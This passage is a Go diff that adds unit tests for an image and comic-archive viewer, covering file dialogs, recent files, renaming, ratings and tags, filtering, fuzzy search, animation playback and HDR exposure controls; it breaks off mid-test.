@@ -1,10 +1,42 @@
 package main
 
 import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"context"
+	"crypto/sha256"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"image"
+	"image/color"
+	"image/draw"
+	"image/jpeg"
+	"image/png"
+	"io"
+	"log"
+	"maps"
+	"math"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"reflect"
+	"runtime"
+	"slices"
+	"strings"
 	"testing"
+	"time"
+
+	"github.com/hajimehoshi/ebiten/v2"
+	"github.com/hajimehoshi/ebiten/v2/text/v2"
+	"github.com/klauspost/compress/zstd"
+	lua "github.com/yuin/gopher-lua"
+	"nv/internal/imgdecode"
+	"nv/internal/mpris"
+	"nv/navlogic"
 )
 
 func TestPureApplyConfigResultUpdatesStatus(t *testing.T) {
@@ -50,6 +82,11 @@ func TestPureIsArchiveExt(t *testing.T) {
 		{"No extension", "test", false},
 		{"Empty string", "", false},
 		{"Path with directory", "/path/to/test.zip", true},
+		{"Tar gzip", "test.tar.gz", true},
+		{"Tar zstd mixed case", "Test.TAR.Zst", true},
+		{"Short tar gzip", "test.tgz", true},
+		{"Plain gzip", "test.gz", false},
+		{"Bare suffix", ".tar.gz", false},
 	}
 
 	for _, tt := range tests {
@@ -74,6 +111,11 @@ func TestPureIsSupportedExt(t *testing.T) {
 		{"WebP file", "test.webp", true},
 		{"BMP file", "test.bmp", true},
 		{"GIF file", "test.gif", true},
+		{"PSD file", "test.psd", true},
+		{"XCF file", "test.xcf", true},
+		{"HDR file", "test.hdr", true},
+		{"EXR file", "test.exr", true},
+		{"TIFF file", "test.tiff", true},
 		{"PNG uppercase", "test.PNG", true},
 		{"JPG uppercase", "test.JPG", true},
 		{"Text file", "test.txt", false},
@@ -476,6 +518,359 @@ func TestPureReplaceCollectionFromArgsResetsRuntimeState(t *testing.T) {
 	}
 }
 
+func TestPureSplitDialogOutput(t *testing.T) {
+	got := splitDialogOutput("/a/one.png\r\n\n/b/two words.zip\n  \n")
+	want := []string{"/a/one.png", "/b/two words.zip"}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("splitDialogOutput = %v, want %v", got, want)
+	}
+	if got := splitDialogOutput(""); len(got) != 0 {
+		t.Fatalf("splitDialogOutput(\"\") = %v, want empty", got)
+	}
+}
+
+func TestPureOsascriptDialogAllowsMultipleFiles(t *testing.T) {
+	files := strings.Join(osascriptDialogScript(fileDialogFiles), "\n")
+	if !strings.Contains(files, "with multiple selections allowed") || !strings.Contains(files, "POSIX path of f & linefeed") {
+		t.Fatalf("file script = %q", files)
+	}
+	if dir := osascriptDialogScript(fileDialogDirectory); len(dir) != 1 || !strings.HasPrefix(dir[0], "POSIX path of (choose folder") {
+		t.Fatalf("folder script = %q", dir)
+	}
+}
+
+func TestPureOpenDialogResultReplacesCollection(t *testing.T) {
+	tempDir := t.TempDir()
+	imagePath := filepath.Join(tempDir, "page1.png")
+	if err := os.WriteFile(imagePath, []byte("x"), 0644); err != nil {
+		t.Fatalf("write image path: %v", err)
+	}
+
+	imageManager := &stubImageManager{}
+	g := &Game{
+		imageManager: imageManager,
+		zoomState:    NewZoomState(),
+		idx:          3,
+	}
+
+	canceled := collectOpenDialogSelection(fileDialogFiles, SortNatural, func(fileDialogKind) ([]string, error) {
+		return nil, errFileDialogCanceled
+	})
+	g.applyOpenDialogResult(canceled)
+	if g.idx != 3 || g.overlayMessage != "" {
+		t.Fatalf("canceled dialog changed state: idx=%d overlay=%q", g.idx, g.overlayMessage)
+	}
+
+	empty := collectOpenDialogSelection(fileDialogDirectory, SortNatural, func(fileDialogKind) ([]string, error) {
+		return []string{t.TempDir()}, nil
+	})
+	g.applyOpenDialogResult(empty)
+	if g.overlayMessage != "No images found" {
+		t.Fatalf("overlay = %q, want No images found", g.overlayMessage)
+	}
+
+	res := collectOpenDialogSelection(fileDialogDirectory, SortNatural, func(kind fileDialogKind) ([]string, error) {
+		if kind != fileDialogDirectory {
+			t.Fatalf("kind = %v, want directory", kind)
+		}
+		return []string{tempDir}, nil
+	})
+	if res.Err != nil {
+		t.Fatalf("collectOpenDialogSelection error: %v", res.Err)
+	}
+	g.applyOpenDialogResult(res)
+
+	if g.idx != 0 {
+		t.Fatalf("idx = %d, want 0", g.idx)
+	}
+	if !reflect.DeepEqual(g.collectionSource.Args, []string{tempDir}) {
+		t.Fatalf("collectionSource.Args = %v, want [%s]", g.collectionSource.Args, tempDir)
+	}
+	if got := imageManager.GetPathsCount(); got != 1 {
+		t.Fatalf("paths count = %d, want 1", got)
+	}
+}
+
+func TestPureNormalizeRecentFiles(t *testing.T) {
+	input := []string{"a", "", "b", "a", "c", "d", "e", "f", "g", "h", "i", "j"}
+	got := normalizeRecentFiles(input)
+	want := []string{"a", "b", "c", "d", "e", "f", "g", "h", "i"}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("normalizeRecentFiles = %v, want %v", got, want)
+	}
+	if got := normalizeRecentFiles(nil); got == nil || len(got) != 0 {
+		t.Fatalf("normalizeRecentFiles(nil) = %#v, want empty slice", got)
+	}
+}
+
+func TestPureOpenRecentFileFromEmptyState(t *testing.T) {
+	tempDir := t.TempDir()
+	imagePath := filepath.Join(tempDir, "page1.png")
+	if err := os.WriteFile(imagePath, []byte("x"), 0644); err != nil {
+		t.Fatalf("write image path: %v", err)
+	}
+	missing := filepath.Join(tempDir, "missing.zip")
+
+	imageManager := &stubImageManager{}
+	g := &Game{
+		imageManager: imageManager,
+		zoomState:    NewZoomState(),
+		config: Config{
+			RecentFiles: []string{missing, tempDir},
+		},
+	}
+
+	g.OpenRecentFile(5)
+	g.OpenRecentFile(0)
+	if got := imageManager.GetPathsCount(); got != 0 {
+		t.Fatalf("paths count after failed opens = %d, want 0", got)
+	}
+
+	g.OpenRecentFile(1)
+	if got := imageManager.GetPathsCount(); got != 1 {
+		t.Fatalf("paths count = %d, want 1", got)
+	}
+	want := []string{tempDir, missing}
+	if !reflect.DeepEqual(g.config.RecentFiles, want) {
+		t.Fatalf("RecentFiles = %v, want %v", g.config.RecentFiles, want)
+	}
+}
+
+func TestPureCollectStartupImagesReportsFailure(t *testing.T) {
+	emptyDir := t.TempDir()
+	missing := filepath.Join(emptyDir, "missing.zip")
+
+	paths, failure := collectStartupImages(nil, SortNatural)
+	if len(paths) != 0 || failure != nil {
+		t.Fatalf("no args: paths=%v failure=%+v, want empty and nil", paths, failure)
+	}
+
+	paths, failure = collectStartupImages([]string{emptyDir}, SortNatural)
+	if len(paths) != 0 || failure == nil || failure.Reason != "No images found" {
+		t.Fatalf("empty dir: paths=%v failure=%+v, want no images failure", paths, failure)
+	}
+
+	paths, failure = collectStartupImages([]string{missing}, SortNatural)
+	if len(paths) != 0 || failure == nil || !reflect.DeepEqual(failure.Args, []string{missing}) {
+		t.Fatalf("missing path: paths=%v failure=%+v, want failure for %s", paths, failure, missing)
+	}
+}
+
+func TestPureRetryFailedOpenLoadsCollection(t *testing.T) {
+	tempDir := t.TempDir()
+	imageManager := &stubImageManager{}
+	g := &Game{
+		imageManager: imageManager,
+		zoomState:    NewZoomState(),
+	}
+
+	g.openPaths([]string{tempDir}, "test")
+	if g.loadFailure == nil || g.loadFailure.Reason != "No images found" {
+		t.Fatalf("loadFailure = %+v, want no images failure", g.loadFailure)
+	}
+
+	if err := os.WriteFile(filepath.Join(tempDir, "page1.png"), []byte("x"), 0644); err != nil {
+		t.Fatalf("write image path: %v", err)
+	}
+	g.RetryFailedOpen()
+
+	if g.loadFailure != nil {
+		t.Fatalf("loadFailure = %+v, want nil after successful retry", g.loadFailure)
+	}
+	if got := imageManager.GetPathsCount(); got != 1 {
+		t.Fatalf("paths count = %d, want 1", got)
+	}
+
+	g.openPaths([]string{filepath.Join(tempDir, "missing")}, "test")
+	if g.loadFailure != nil {
+		t.Fatalf("loadFailure = %+v, want nil while a collection is loaded", g.loadFailure)
+	}
+}
+
+func TestPureRetryOpenKeyDoesNotShadowViewerActions(t *testing.T) {
+	origJustPressed, origHeld := keyJustPressed, keyHeld
+	keyJustPressed = func(k ebiten.Key) bool { return k == ebiten.KeyR }
+	keyHeld = func(ebiten.Key) bool { return false }
+	t.Cleanup(func() { keyJustPressed, keyHeld = origJustPressed, origHeld })
+
+	g := &Game{
+		imageManager: &stubImageManager{paths: []ImagePath{{Path: "a.png"}}, images: []DisplayImage{testDisplayImage(4, 4)}},
+		zoomState:    NewZoomState(),
+	}
+	keys := NewKeybindingManager(map[string][]string{"retry_open": {"KeyR"}, "zoom_in": {"KeyR"}})
+	h := NewInputHandler(g, g, keys, NewMousebindingManager(map[string][]string{}, MouseSettings{}))
+	if !h.handleKeyboardInput() || g.zoomState.Mode != ZoomModeManual {
+		t.Fatalf("zoom mode after R = %v, want the viewer action to run", g.zoomState.Mode)
+	}
+}
+
+func TestPureSkipUnreadablePages(t *testing.T) {
+	newGame := func(skip bool) (*Game, *stubImageManager) {
+		imageManager := &stubImageManager{
+			paths:  []ImagePath{{Path: "1.png"}, {Path: "2.png"}, {Path: "3.png"}, {Path: "4.png"}},
+			images: []DisplayImage{testDisplayImage(10, 10), testDisplayImage(10, 10), testDisplayImage(10, 10), testDisplayImage(10, 10)},
+			failed: map[int]string{1: "bad header", 2: "truncated"},
+		}
+		g := &Game{
+			imageManager: imageManager,
+			zoomState:    NewZoomState(),
+			config:       Config{SkipUnreadableImages: skip},
+		}
+		return g, imageManager
+	}
+
+	g, _ := newGame(true)
+	g.NavigateNext()
+	if g.idx != 3 {
+		t.Fatalf("forward skip idx = %d, want 3", g.idx)
+	}
+	if g.displayContent == nil || g.displayContent.Metadata.Unreadable != 2 {
+		t.Fatalf("display metadata = %+v, want 2 unreadable", g.displayContent)
+	}
+
+	g.NavigatePrevious()
+	if g.idx != 0 {
+		t.Fatalf("backward skip idx = %d, want 0", g.idx)
+	}
+
+	g, _ = newGame(false)
+	g.NavigateNext()
+	if g.idx != 1 {
+		t.Fatalf("idx with skipping disabled = %d, want 1", g.idx)
+	}
+}
+
+func TestPureReloadCurrentImageInvalidatesVisiblePages(t *testing.T) {
+	imageManager := &stubImageManager{
+		paths:  []ImagePath{{Path: "1.png"}, {Path: "2.png"}, {Path: "3.png"}},
+		images: []DisplayImage{testDisplayImage(10, 20), testDisplayImage(10, 20), testDisplayImage(10, 20)},
+		failed: map[int]string{1: "truncated"},
+	}
+	g := &Game{
+		imageManager: imageManager,
+		zoomState:    NewZoomState(),
+		bookMode:     true,
+		config:       Config{BookMode: true, AspectRatioThreshold: 1.5},
+	}
+
+	g.ReloadCurrentImage()
+
+	if !reflect.DeepEqual(imageManager.invalidated, []int{0, 1}) {
+		t.Fatalf("invalidated = %v, want [0 1]", imageManager.invalidated)
+	}
+	if imageManager.IsLoadFailed(1) {
+		t.Fatal("expected reload to clear the recorded load failure")
+	}
+	if g.overlayMessage != "Reloaded" {
+		t.Fatalf("overlay = %q, want Reloaded", g.overlayMessage)
+	}
+}
+
+func TestPureRescanCollectionKeepsCurrentFile(t *testing.T) {
+	tempDir := t.TempDir()
+	for _, name := range []string{"b.png", "c.png"} {
+		if err := os.WriteFile(filepath.Join(tempDir, name), []byte("x"), 0644); err != nil {
+			t.Fatalf("write %s: %v", name, err)
+		}
+	}
+
+	imageManager := &stubImageManager{}
+	g := &Game{
+		imageManager: imageManager,
+		zoomState:    NewZoomState(),
+	}
+	if !g.openPaths([]string{tempDir}, "test") {
+		t.Fatal("expected initial open to succeed")
+	}
+	g.setCurrentIndex(1)
+	current := g.getCurrentImagePath()
+
+	if err := os.WriteFile(filepath.Join(tempDir, "a.png"), []byte("x"), 0644); err != nil {
+		t.Fatalf("write a.png: %v", err)
+	}
+	g.RescanCollection()
+
+	if got := imageManager.GetPathsCount(); got != 3 {
+		t.Fatalf("paths count = %d, want 3", got)
+	}
+	if got := g.getCurrentImagePath(); got != current {
+		t.Fatalf("current path = %q, want %q", got, current)
+	}
+	if g.idx != 2 {
+		t.Fatalf("idx = %d, want 2", g.idx)
+	}
+}
+
+func TestPureRenameCurrentFile(t *testing.T) {
+	tempDir := t.TempDir()
+	oldPath := filepath.Join(tempDir, "page1.png")
+	otherPath := filepath.Join(tempDir, "page2.png")
+	for _, path := range []string{oldPath, otherPath} {
+		if err := os.WriteFile(path, []byte("x"), 0644); err != nil {
+			t.Fatalf("write %s: %v", path, err)
+		}
+	}
+
+	imageManager := &stubImageManager{
+		paths: []ImagePath{{Path: oldPath}, {Path: otherPath}, {Path: "book.zip:01.png", ArchivePath: "book.zip", EntryPath: "01.png"}},
+	}
+	g := &Game{
+		imageManager:     imageManager,
+		zoomState:        NewZoomState(),
+		launchSingleFile: oldPath,
+		collectionSource: newArgsCollectionSource([]string{oldPath}),
+		ratings:          loadRatingStore(filepath.Join(tempDir, "ratings.json")),
+		pairings:         loadPairingStore(filepath.Join(tempDir, "pairings.json")),
+		progress:         loadProgressStore(filepath.Join(tempDir, "progress.json")),
+		marks:            map[string]bool{oldPath: true},
+	}
+	g.ratings.SetRating(ratingKey(ImagePath{Path: oldPath}), 4)
+	g.ratings.ToggleTag(ratingKey(ImagePath{Path: oldPath}), "cover")
+	volume, _ := volumeKey(ImagePath{Path: oldPath})
+	g.pairings.Set(volume, "page1.png", navlogic.PairApart)
+	g.progress.entry(volume).markPage("page1.png")
+	g.progress.entry(volume).markPage("page2.png")
+
+	for _, name := range []string{"", "..", "sub/name.png", "page2.png"} {
+		if _, err := g.renameCurrentFile(name); err == nil {
+			t.Fatalf("renameCurrentFile(%q) succeeded, want error", name)
+		}
+	}
+
+	newPath, err := g.renameCurrentFile("cover.png")
+	if err != nil {
+		t.Fatalf("renameCurrentFile: %v", err)
+	}
+	if _, err := os.Stat(newPath); err != nil {
+		t.Fatalf("renamed file missing: %v", err)
+	}
+	if got, _ := imageManager.GetPath(0); got.Path != newPath {
+		t.Fatalf("path[0] = %q, want %q", got.Path, newPath)
+	}
+	if g.launchSingleFile != newPath || g.collectionSource.Args[0] != newPath {
+		t.Fatalf("launch state not updated: single=%q args=%v", g.launchSingleFile, g.collectionSource.Args)
+	}
+	renamed := ImagePath{Path: newPath}
+	if e := g.ratings.Get(ratingKey(renamed)); e.Rating != 4 || !slices.Equal(e.Tags, []string{"cover"}) || !g.ratings.Get(ratingKey(ImagePath{Path: oldPath})).isEmpty() {
+		t.Fatalf("rating not moved: %+v", e)
+	}
+	if g.pairings.Get(volume, "cover.png") != navlogic.PairApart || g.pairings.Get(volume, "page1.png") != navlogic.PairAuto {
+		t.Fatal("pairing not moved")
+	}
+	if pages := g.progress.Get(volume).Pages; !slices.Equal(pages, []string{"cover.png", "page2.png"}) {
+		t.Fatalf("pages read %v", pages)
+	}
+	if !g.marks[newPath] || g.marks[oldPath] {
+		t.Fatalf("marks %v", g.marks)
+	}
+
+	g.idx = 2
+	g.EnterRenameMode()
+	if g.IsInTextPrompt() {
+		t.Fatal("expected rename mode to be refused for archive entries")
+	}
+}
+
 func TestPureCollectImages(t *testing.T) {
 	tempDir := t.TempDir()
 
@@ -895,6 +1290,27 @@ func TestPureKeybindingConflictDetection(t *testing.T) {
 			},
 			expectError: false,
 		},
+		{
+			name: "start screen action shares a viewer key",
+			keybindings: map[string][]string{
+				"rotate_right": {"KeyR"},
+				"retry_open":   {"KeyR"},
+			},
+			expectError: false,
+		},
+		{
+			name: "start screen conflict",
+			keybindings: map[string][]string{
+				"exit":       {"KeyQ"},
+				"retry_open": {"KeyQ"},
+			},
+			expectError: true,
+		},
+		{
+			name:        "defaults",
+			keybindings: getDefaultKeybindings(),
+			expectError: false,
+		},
 	}
 
 	for _, tt := range tests {
@@ -1108,3 +1524,4481 @@ func TestPureMouseSettingsValidation(t *testing.T) {
 		})
 	}
 }
+
+func TestPureParseCollectionFilter(t *testing.T) {
+	tests := []struct {
+		input   string
+		want    CollectionFilter
+		wantErr bool
+	}{
+		{input: "", want: CollectionFilter{}},
+		{input: ">=4", want: CollectionFilter{MinRating: 4}},
+		{input: "3+ tag:keep", want: CollectionFilter{MinRating: 3, Tags: []string{"keep"}}},
+		{input: "tag:a tag:b tag:a", want: CollectionFilter{Tags: []string{"a", "b"}}},
+		{input: ">=6", wantErr: true},
+		{input: "tag:", wantErr: true},
+		{input: "keep", wantErr: true},
+	}
+
+	for _, tt := range tests {
+		got, err := parseCollectionFilter(tt.input)
+		if (err != nil) != tt.wantErr {
+			t.Fatalf("parseCollectionFilter(%q) error = %v, wantErr %v", tt.input, err, tt.wantErr)
+		}
+		if !tt.wantErr && !reflect.DeepEqual(got, tt.want) {
+			t.Fatalf("parseCollectionFilter(%q) = %+v, want %+v", tt.input, got, tt.want)
+		}
+	}
+}
+
+func TestPureRatingStorePersistsEntries(t *testing.T) {
+	path := filepath.Join(t.TempDir(), ratingsFileName)
+	store := loadRatingStore(path)
+	key := ratingKey(ImagePath{Path: "book.zip:01.png", ArchivePath: "book.zip", EntryPath: "01.png"})
+
+	store.SetRating(key, 4)
+	if !store.ToggleTag(key, "keep") {
+		t.Fatal("expected tag to be added")
+	}
+	store.ToggleTag(key, "draft")
+	if store.ToggleTag(key, "draft") {
+		t.Fatal("expected second toggle to remove tag")
+	}
+
+	reloaded := loadRatingStore(path)
+	got := reloaded.Get(key)
+	if got.Rating != 4 || !reflect.DeepEqual(got.Tags, []string{"keep"}) {
+		t.Fatalf("reloaded entry = %+v, want rating 4 and tags [keep]", got)
+	}
+
+	reloaded.SetRating(key, 0)
+	reloaded.RemoveTag(key, "keep")
+	if _, ok := loadRatingStore(path).entries[key]; ok {
+		t.Fatal("expected empty entry to be dropped from the store")
+	}
+}
+
+func TestPureFilterInputNarrowsCollection(t *testing.T) {
+	tempDir := t.TempDir()
+	for _, name := range []string{"a.png", "b.png", "c.png"} {
+		if err := os.WriteFile(filepath.Join(tempDir, name), []byte("x"), 0644); err != nil {
+			t.Fatalf("write %s: %v", name, err)
+		}
+	}
+
+	imageManager := &stubImageManager{}
+	g := &Game{
+		imageManager: imageManager,
+		zoomState:    NewZoomState(),
+		ratings:      loadRatingStore(filepath.Join(t.TempDir(), ratingsFileName)),
+	}
+	if !g.openPaths([]string{tempDir}, "test") {
+		t.Fatal("expected initial open to succeed")
+	}
+
+	g.setCurrentIndex(1)
+	g.SetRating(5)
+	g.EnterTagInput()
+	g.UpdateTextPromptBuffer("keep")
+	g.SubmitTextPrompt()
+	g.setCurrentIndex(2)
+	g.SetRating(3)
+
+	g.EnterFilterInput()
+	g.UpdateTextPromptBuffer(">=4")
+	g.SubmitTextPrompt()
+	if got := imageManager.GetPathsCount(); got != 1 {
+		t.Fatalf("paths count after >=4 = %d, want 1", got)
+	}
+	if got := filepath.Base(g.getCurrentImagePath()); got != "b.png" {
+		t.Fatalf("current file = %q, want b.png", got)
+	}
+	if got := g.displayContent.Metadata.Filter; got != ">=4" {
+		t.Fatalf("metadata filter = %q, want >=4", got)
+	}
+
+	g.processFilterInput("tag:missing")
+	if got := imageManager.GetPathsCount(); got != 1 {
+		t.Fatalf("paths count after unmatched filter = %d, want 1", got)
+	}
+	if got := g.collectionFilter.String(); got != ">=4" {
+		t.Fatalf("filter after unmatched input = %q, want >=4", got)
+	}
+
+	g.processFilterInput("")
+	if got := imageManager.GetPathsCount(); got != 3 {
+		t.Fatalf("paths count after clearing filter = %d, want 3", got)
+	}
+}
+
+func TestPureNameFilterNarrowsAndRestores(t *testing.T) {
+	tempDir := t.TempDir()
+	for _, name := range []string{"a.png", "b.png", "cat1.png", "cat2.png"} {
+		if err := os.WriteFile(filepath.Join(tempDir, name), []byte("x"), 0644); err != nil {
+			t.Fatalf("write %s: %v", name, err)
+		}
+	}
+
+	imageManager := &stubImageManager{}
+	g := &Game{
+		imageManager: imageManager,
+		zoomState:    NewZoomState(),
+	}
+	if !g.openPaths([]string{tempDir}, "test") {
+		t.Fatal("expected initial open to succeed")
+	}
+	g.setCurrentIndex(1)
+
+	g.EnterNameFilter()
+	g.UpdateTextPromptBuffer("CAT")
+	if got := imageManager.GetPathsCount(); got != 2 {
+		t.Fatalf("paths count while typing = %d, want 2", got)
+	}
+	if got := g.GetTextPromptStatus(); got != "2 / 4" {
+		t.Fatalf("status = %q, want 2 / 4", got)
+	}
+	g.UpdateTextPromptBuffer("CATx")
+	if got := imageManager.GetPathsCount(); got != 2 {
+		t.Fatalf("paths count after unmatched input = %d, want previous 2", got)
+	}
+
+	g.ExitTextPrompt()
+	if got := imageManager.GetPathsCount(); got != 4 {
+		t.Fatalf("paths count after Escape = %d, want 4", got)
+	}
+	if got := filepath.Base(g.getCurrentImagePath()); got != "b.png" {
+		t.Fatalf("current file after Escape = %q, want b.png", got)
+	}
+
+	g.EnterNameFilter()
+	g.UpdateTextPromptBuffer(`^cat2\.`)
+	g.SubmitTextPrompt()
+	g.RescanCollection()
+	if got := imageManager.GetPathsCount(); got != 1 {
+		t.Fatalf("paths count after commit and rescan = %d, want 1", got)
+	}
+	if got := g.displayContent.Metadata.Filter; got != `/^cat2\./` {
+		t.Fatalf("metadata filter = %q", got)
+	}
+}
+
+func TestPureFuzzySearchPathsRanksMatches(t *testing.T) {
+	paths := []ImagePath{
+		{Path: "/photos/cover.png"},
+		{Path: "/photos/chapter10_page.png"},
+		{Path: "book.zip:ch10/p01.png", ArchivePath: "book.zip", EntryPath: "ch10/p01.png"},
+		{Path: "/photos/other.png"},
+	}
+
+	results := fuzzySearchPaths(paths, "ch10", searchResultLimit)
+	if len(results) != 2 {
+		t.Fatalf("results = %+v, want 2 matches", results)
+	}
+	if results[0].Index != 2 {
+		t.Fatalf("best match index = %d, want archive entry 2 (%+v)", results[0].Index, results)
+	}
+	if results[0].Name != "book.zip:ch10/p01.png" {
+		t.Fatalf("archive result name = %q", results[0].Name)
+	}
+
+	if got := fuzzySearchPaths(paths, "", 3); len(got) != 3 || got[0].Index != 0 {
+		t.Fatalf("empty query results = %+v, want first 3 in order", got)
+	}
+	if got := fuzzySearchPaths(paths, "zzz", searchResultLimit); len(got) != 0 {
+		t.Fatalf("unmatched query results = %+v, want none", got)
+	}
+}
+
+func TestPureSearchEnterJumpsToSelection(t *testing.T) {
+	g := &Game{
+		imageManager: &stubImageManager{
+			paths: []ImagePath{{Path: "a.png"}, {Path: "apple.png"}, {Path: "banana.png"}, {Path: "avocado.png"}},
+		},
+		zoomState: NewZoomState(),
+	}
+
+	g.EnterSearch()
+	g.UpdateTextPromptBuffer("a")
+	if got := len(g.GetSearchResults()); got != 4 {
+		t.Fatalf("results for %q = %d, want 4", "a", got)
+	}
+	g.UpdateTextPromptBuffer("av")
+	g.MoveTextPromptSelection(1)
+	g.MoveTextPromptSelection(-1)
+	g.SubmitTextPrompt()
+
+	if g.idx != 3 {
+		t.Fatalf("idx = %d, want 3 (avocado.png)", g.idx)
+	}
+	if g.IsInTextPrompt() || g.GetSearchResults() != nil {
+		t.Fatal("expected search prompt to close after Enter")
+	}
+}
+
+func TestPureSearchFindsPagesHiddenByTheFilter(t *testing.T) {
+	tempDir := t.TempDir()
+	for _, name := range []string{"apple.png", "avocado.png", "banana.png"} {
+		if err := os.WriteFile(filepath.Join(tempDir, name), []byte("x"), 0644); err != nil {
+			t.Fatalf("write %s: %v", name, err)
+		}
+	}
+	imageManager := &stubImageManager{}
+	g := &Game{
+		imageManager: imageManager,
+		zoomState:    NewZoomState(),
+		ratings:      loadRatingStore(filepath.Join(t.TempDir(), ratingsFileName)),
+	}
+	if !g.openPaths([]string{tempDir}, "test") {
+		t.Fatal("expected initial open to succeed")
+	}
+	g.setCurrentIndex(2)
+	g.SetRating(5)
+	g.processFilterInput(">=4")
+	if got := imageManager.GetPathsCount(); got != 1 {
+		t.Fatalf("paths count after filter = %d, want 1", got)
+	}
+
+	g.EnterSearch()
+	if got := g.GetTextPromptStatus(); got != "3 images, 2 filtered out" {
+		t.Fatalf("status = %q", got)
+	}
+	g.UpdateTextPromptBuffer("avo")
+	results := g.GetSearchResults()
+	if len(results) != 1 || results[0].Name != "avocado.png" || !results[0].Hidden {
+		t.Fatalf("results = %+v, want the hidden avocado.png", results)
+	}
+	g.SubmitTextPrompt()
+	if g.collectionFilter.Active() || imageManager.GetPathsCount() != 3 {
+		t.Fatalf("filter %q with %d paths, want it cleared", g.collectionFilter.String(), imageManager.GetPathsCount())
+	}
+	if got := filepath.Base(g.getCurrentImagePath()); got != "avocado.png" || !strings.Contains(g.overlayMessage, "cleared to show avocado.png") {
+		t.Fatalf("current = %q, overlay %q", got, g.overlayMessage)
+	}
+}
+
+func TestPureAnimationPlaybackControls(t *testing.T) {
+	anim := &animatedDisplayImage{
+		bounds: image.Rect(0, 0, 4, 4),
+		frames: make([][]DisplayTile, 3),
+		delays: []time.Duration{100 * time.Millisecond, 50 * time.Millisecond, 100 * time.Millisecond},
+	}
+	g := &Game{
+		imageManager: &stubImageManager{paths: []ImagePath{{Path: "a.gif"}}, images: []DisplayImage{anim}},
+		zoomState:    NewZoomState(),
+	}
+	g.calculateDisplayContent()
+
+	if g.advanceAnimations(60 * time.Millisecond) {
+		t.Fatal("expected frame 0 to still be showing after 60ms")
+	}
+	if !g.advanceAnimations(90*time.Millisecond) || anim.CurrentFrame() != 2 {
+		t.Fatalf("frame after 150ms = %d, want 2", anim.CurrentFrame())
+	}
+
+	g.stepAnimationFrame(1)
+	if anim.CurrentFrame() != 0 || !g.animationPaused {
+		t.Fatalf("after step: frame %d paused %v, want 0 paused", anim.CurrentFrame(), g.animationPaused)
+	}
+	if g.advanceAnimations(time.Second) {
+		t.Fatal("paused animation must not advance")
+	}
+	g.stepAnimationFrame(-1)
+	if anim.CurrentFrame() != 2 {
+		t.Fatalf("frame after stepping back = %d, want 2", anim.CurrentFrame())
+	}
+
+	g.changeAnimationSpeed(1)
+	g.changeAnimationSpeed(1)
+	if got := g.playbackSpeed(); got != 2 {
+		t.Fatalf("speed = %v, want 2", got)
+	}
+	for i := 0; i < 10; i++ {
+		g.changeAnimationSpeed(-1)
+	}
+	if got := g.playbackSpeed(); got != animationSpeeds[0] {
+		t.Fatalf("speed = %v, want clamp to %v", got, animationSpeeds[0])
+	}
+
+	g.toggleAnimationPause()
+	anim.SetFrame(0)
+	if !g.advanceAnimations(400*time.Millisecond) || anim.CurrentFrame() != 1 {
+		t.Fatalf("frame at 0.25x after 400ms = %d, want 1", anim.CurrentFrame())
+	}
+}
+
+func TestPureHDRExposureControls(t *testing.T) {
+	g := &Game{
+		imageManager: &stubImageManager{paths: []ImagePath{{Path: "a.exr"}}, images: []DisplayImage{testDisplayImage(4, 4)}},
+		zoomState:    NewZoomState(),
+		config:       Config{ToneMapOperator: "aces", HDRExposure: 1},
+		hdrExposure:  1,
+	}
+
+	g.changeHDRExposure(hdrExposureStep)
+	if g.hdrExposure != 1.5 {
+		t.Fatalf("exposure after step = %v, want 1.5", g.hdrExposure)
+	}
+	if tm := g.toneMapping(); tm.Operator != "aces" || tm.Exposure != 1.5 {
+		t.Fatalf("toneMapping() = %+v", tm)
+	}
+	g.changeHDRExposure(100)
+	if g.hdrExposure != maxHDRExposure {
+		t.Fatalf("exposure not clamped: %v", g.hdrExposure)
+	}
+	g.resetHDRExposure()
+	if g.hdrExposure != 1 {
+		t.Fatalf("exposure after reset = %v, want configured 1", g.hdrExposure)
+	}
+
+	g.toggleLevelsStretch()
+	if l := g.levels(); !l.Stretch || l.Exposure != 1 {
+		t.Fatalf("levels() = %+v, want stretch with exposure 1", l)
+	}
+}
+
+func TestPureLoadConfigValidatesToneMapping(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config.json")
+	if err := os.WriteFile(configPath, []byte(`{"tone_map_operator":"filmic","hdr_exposure":-40}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	config := loadConfigFromPath(configPath).Config
+	if config.ToneMapOperator != "reinhard" {
+		t.Errorf("ToneMapOperator = %q, want reinhard", config.ToneMapOperator)
+	}
+	if config.HDRExposure != -maxHDRExposure {
+		t.Errorf("HDRExposure = %v, want %v", config.HDRExposure, -maxHDRExposure)
+	}
+}
+
+func TestPureCollectImagesSniffsContent(t *testing.T) {
+	tempDir := t.TempDir()
+	files := map[string][]byte{
+		"download":  []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR"),
+		"image.dat": []byte("GIF89a\x01\x00\x01\x00"),
+		"notes.txt": []byte("just some text"),
+	}
+	for name, data := range files {
+		if err := os.WriteFile(filepath.Join(tempDir, name), data, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	t.Cleanup(func() { contentSniffing.Store(false) })
+
+	result, err := collectImages([]string{tempDir}, SortNatural)
+	if err != nil {
+		t.Fatalf("collectImages: %v", err)
+	}
+	if len(result) != 0 {
+		t.Fatalf("without sniffing got %v, want none", result)
+	}
+
+	contentSniffing.Store(true)
+	result, err = collectImages([]string{tempDir}, SortNatural)
+	if err != nil {
+		t.Fatalf("collectImages: %v", err)
+	}
+	var names []string
+	for _, p := range result {
+		names = append(names, filepath.Base(p.Path))
+	}
+	if !reflect.DeepEqual(names, []string{"download", "image.dat"}) {
+		t.Fatalf("with sniffing got %v, want [download image.dat]", names)
+	}
+}
+
+func TestPureDetectArchiveCompositeExtensions(t *testing.T) {
+	tests := []struct {
+		path string
+		want archiveFormat
+	}{
+		{"book.tar.gz", archiveFormat{archiveTar, "gzip"}},
+		{"BOOK.TBZ2", archiveFormat{archiveTar, "bzip2"}},
+		{"scans.tar.xz", archiveFormat{archiveTar, "xz"}},
+		{"scans.tar.zst", archiveFormat{archiveTar, "zstd"}},
+		{"plain.tar", archiveFormat{archiveTar, ""}},
+		{"comic.7Z", archiveFormat{archive7z, ""}},
+	}
+	for _, tt := range tests {
+		got, ok := detectArchive(tt.path)
+		if !ok || got != tt.want {
